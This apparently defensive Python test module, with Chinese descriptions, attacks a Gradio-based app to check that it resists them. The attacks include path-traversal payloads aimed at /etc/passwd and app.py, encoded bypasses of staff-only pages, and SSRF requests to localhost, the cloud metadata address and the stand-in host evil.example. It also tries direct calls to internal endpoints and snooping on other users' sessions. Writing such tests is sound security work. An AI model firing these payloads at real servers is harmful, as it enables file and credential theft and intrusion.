"""Ways to a file or a function that is not for visitors: paths, encodings, Gradio's own addresses."""

from __future__ import annotations

from tests.attacks.holding import Attack, get, post
from tests.attacks.target import SECRET, Reply, Target

_FILES = (
    ("绝对路径", "/gradio_api/file=/etc/passwd"),
    ("本程序", "/gradio_api/file=app.py"),
    ("上级文件夹", "/gradio_api/file=../../../../../../etc/passwd"),
    ("编码的斜线", "/gradio_api/file=..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("两次编码", "/gradio_api/file=%252e%252e%252fetc%252fpasswd"),
    ("旧的地址", "/gradio_api/file/etc/passwd"),
    ("file://", "/gradio_api/file=file:///etc/passwd"),
    ("NUL 截断", "/gradio_api/file=/etc/passwd%00.png"),
    ("静态文件夹", "/static/../../../../../../../../etc/passwd"),
    ("静态文件夹，编码", "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("静态文件夹，反斜线", "/static/..%5c..%5c..%5capp.py"),
    ("资源文件夹", "/assets/..%2f..%2f..%2f..%2froutes.py"),
    ("资源文件夹，绝对", "/assets//etc/passwd"),
    ("另一种资源", "/svelte/..%2f..%2f..%2froutes.py"),
    ("过长的 UTF-8", "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("图标", "/pwa_icon/999999999"),
    ("组件的文件", "/gradio_api/custom_component/x/server/..%2f/app.py"),
    ("导出的格式当路径", "/export/..%2f..%2fapp.py"),
    ("指标的表当路径", "/export/indicators.csv?table=../../../etc/passwd"),
    ("数据文件夹", "/var/records.db"),
    ("仓库", "/.git/config"),
    ("设置文件", "/pages/site.toml"),
    ("模型名当路径", "/v1/models/..%2f..%2fetc%2fpasswd"),
)
_STAFF = (
    "/staff/gradio_api/file=/etc/passwd", "//staff/api/files", "/staff//api/files", "/%73taff/api/files",
    "/staff/./api/files", "/x/../staff/api/files", "/staff%2fapi%2ffiles", "/STAFF/api/files",
    "/staff;x/api/files", "/staff/api/files%00", "/staff\\api\\files", "/./staff/api/files",
    "/staff/api/../api/quality?view=run&id=../../records",
)  # fmt: skip


def _run_by_name(target: Target) -> Reply:
    return target.send("GET", "/staff/api/quality?view=run&id=..%2f..%2f..%2f..%2fetc", who="admin")


def _compare_by_name(target: Target) -> Reply:
    return target.send("GET", "/staff/api/quality?view=compare&a=/etc/passwd&b=../var", who="admin")


def _linked(target: Target) -> str:
    """Neither a link in the documents folder nor a catalog's path leads out of it."""
    said = target.ask("2033年密库存放什么？")
    shown = target.send("GET", "/staff/api/files", who="admin").text
    if SECRET in said + shown:
        return "文件夹外的内容可以看到"
    return "链接列在文件夹里" if "linked/" in shown else ""


ATTACKS = [
    *(
        Attack(f"path-{n:02}", f"取文件：{what}", "给出文件内容", get(path))
        for n, (what, path) in enumerate(_FILES, 1)
    ),
    *(
        Attack(f"path-{n}", f"工作人员的页面换个写法：{path}", "不登录就打开", get(path),
               never=("已收入", "回收站", "hostile.md"))
        for n, path in enumerate(_STAFF, 30)
    ),
    Attack("path-50", "运行记录的编号当路径", "读到别的文件夹", _run_by_name, own_only=True),
    Attack("path-51", "比较两次运行的编号当路径", "读到别的文件夹", _compare_by_name, own_only=True),
    Attack("path-52", "文件夹里的链接、目录里的 ../", "答出或列出文件夹外的内容", _linked, own_only=True),
    Attack("ssrf-01", "让服务器取内网地址", "发出请求",
           get("/gradio_api/file=http://127.0.0.1:22/")),
    Attack("ssrf-02", "让服务器取云主机的元数据", "发出请求",
           get("/gradio_api/file=http://169.254.169.254/latest/meta-data/")),
    Attack("ssrf-03", "让服务器取外部地址", "发出请求", get("/gradio_api/file=https://evil.example/x")),
    Attack("ssrf-04", "Gradio 的转发", "发出请求", get("/gradio_api/proxy=https://evil.example/x")),
    Attack("ssrf-05", "问题里带网址文件对象", "去取它",
           lambda t: "去取了" if "evil.example/s" in t.ask({"path": "http://evil.example/s", "url": "http://evil.example/s", "meta": {"_type": "gradio.FileData"}}) and t.own and (t.own / "outside.txt").exists() else "",
           own_only=True),
    *(
        Attack(f"gradio-{n:02}", f"Gradio 自己的地址：{path}", "能用", get(path))
        for n, path in enumerate(
            ("/config", "/gradio_api/info", "/gradio_api/openapi.json", "/gradio_api/deep_link?session_hash=x",
             "/gradio_api/dev/reload", "/gradio_api/heartbeat/x", "/gradio_api/token", "/monitoring",
             "/monitoring/summary", "/gradio_api/vibe-code", "/gradio_api/queue/status",
             "/gradio_api/startup-events", "/gradio_api/runs", "/logout", "/docs", "/openapi.json",
             "/gradio_api/upload_progress?upload_id=x", "/gradio_api/stream/a/b/1/playlist.m3u8",
             "/gradio_api/mcp/sse", "/gradio_api/call/ask/x"), 1)
    ),
    *(
        Attack(f"gradio-{n}", f"Gradio 的函数直接调用：{path}", "绕过排队和次数限制", post(path, body))
        for n, (path, body) in enumerate(
            (("/gradio_api/run/ask", {"data": []}), ("/gradio_api/api/predict", {"data": [], "fn_index": 0}),
             ("/gradio_api/call/ask", {"data": []}), ("/gradio_api/call/v2/ask", {}), ("/login", {}),
             ("/gradio_api/vibe-edit", {"prompt": "x"}), ("/gradio_api/vibe-code", {"code": "x"}),
             ("/gradio_api/process_recording", {})), 30)
    ),
    Attack("gradio-40", "陌生人上传文件", "文件留在服务器上",
           lambda t: t.upload("/gradio_api/upload", "a.html", b"<script>1</script>", field_name="files")),
    Attack("gradio-41", "不存在的函数", "出现程序内部的信息",
           post("/gradio_api/queue/join", {"data": [], "fn_index": 9999, "session_hash": "x"}),
           statuses=(400, 404, 422, 500)),
    Attack("gradio-42", "组件的内部方法", "执行",
           lambda t: t.json("/gradio_api/component_server/", {"data": [], "fn_name": "__init__", "component_id": t.config["components"][0]["id"], "session_hash": "x"})),
    Attack("gradio-43", "组件的属性当函数", "执行",
           lambda t: t.json("/gradio_api/component_server/", {"data": "x", "fn_name": "postprocess", "component_id": t.config["components"][0]["id"], "session_hash": "x"})),
    Attack("gradio-44", "不存在的组件", "出现程序内部的信息",
           post("/gradio_api/component_server/", {"data": [], "fn_name": "say", "component_id": 10**9, "session_hash": "x"}),
           statuses=(400, 404, 422, 500)),
    Attack("gradio-45", "偷听别人的会话", "看到别人的问答",
           get("/gradio_api/queue/data?session_hash=0000000000"), statuses=(0, 200, 404), never=("question",)),
]  # fmt: skip
